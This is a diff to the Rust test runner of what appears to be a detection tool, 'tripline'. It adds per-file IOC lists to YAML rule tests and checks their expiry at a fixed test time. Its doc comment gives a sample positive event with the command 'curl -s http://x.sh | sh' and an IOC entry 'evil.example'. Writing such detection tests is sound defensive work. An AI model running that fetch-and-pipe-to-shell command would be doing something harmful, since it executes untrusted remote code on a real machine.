@@ -7,6 +7,9 @@
 //! ```yaml
 //! config:                      # optional tripline.toml keys for this file
 //!   office_networks: [10.0.0.0/8]
+//! iocs:                        # optional IOC lists for this file: file name -> contents
+//!   advisory.txt: |
+//!     evil.example
 //! positive:
 //!   - name: pack/tripline-linux/crontab     # pack and query parsed from the name
 //!     columns: {command: "curl -s http://x.sh | sh"}
@@ -19,8 +22,8 @@
 //!     time: null               # no time, as some forwarders send: placed by the object time
 //! ```
 //!
-//! Each file runs with the default settings plus its own `config:`, never the user's
-//! `tripline.toml`, so tests mean the same on every machine.
+//! Each file runs with the default settings plus its own `config:` and `iocs:`, never the
+//! user's `tripline.toml` or lists, so tests mean the same on every machine.
 //!
 //! Filters have tests of their own, `tests/<filter name>.yml` beside the filters, run by
 //! [`run_filters`]: events a filter must suppress and events it must let through (see
@@ -34,9 +37,9 @@ use serde::{Deserialize, Serialize};
 use serde_json::{Map, Value};
 
 use crate::config::Config;
-use crate::derive::derive;
 use crate::event::{Action, Event, Kind, SourceRef};
 use crate::fields::Fields;
+use crate::ioc::IocSet;
 use crate::mapping::Mapper;
 use crate::rules::detector::{Detector, Outcome, RuleOutcome};
 use crate::rules::filters::FilterSet;
@@ -58,6 +61,10 @@ struct RawTestFile {
     description: Option<String>,
     #[serde(default)]
     config: Option<Value>,
+    /// IOC lists for this file: file name (its extension gives the format, its stem the
+    /// list's name) to contents, loaded as [`IocSet::from_sources_at`] loads a site's.
+    #[serde(default)]
+    iocs: BTreeMap<String, String>,
     #[serde(default)]
     positive: Vec<TestEvent>,
     #[serde(default)]
@@ -327,7 +334,7 @@ pub fn read_dir(dir: impl AsRef<Path>) -> Result<Vec<(String, String)>, LoadErro
 fn outcomes(detector: &mut Detector, te: &TestEvent, id: &str) -> Result<Vec<RuleOutcome>, String> {
     let mut event = te.to_event(id)?;
     detector.annotate(&mut event);
-    let mut derived = derive(&event, detector.config());
+    let mut derived = detector.derive(&event);
     if let Some(o) = te.derived {
         derived.stale = o.stale.unwrap_or(derived.stale);
         derived.initial = o.initial.unwrap_or(derived.initial);
@@ -411,6 +418,16 @@ pub fn run(
         }
         let mut detector = Detector::new(Arc::clone(rules), mapper.clone(), config)
             .with_object_time(DEFAULT_TEST_TIME);
+        if !raw.iocs.is_empty() {
+            // Expiry is judged at the fixed test time, so the tests mean the same every day.
+            match IocSet::from_sources_at(&raw.iocs, DEFAULT_TEST_TIME) {
+                Ok(set) => detector = detector.with_iocs(Arc::new(set)),
+                Err(e) => {
+                    result.failures.push(format!("{label}: iocs: {e}"));
+                    continue;
+                }
+            }
+        }
         for (kind, events, want) in [
             ("positive", &raw.positive, true),
             ("negative", &raw.negative, false),
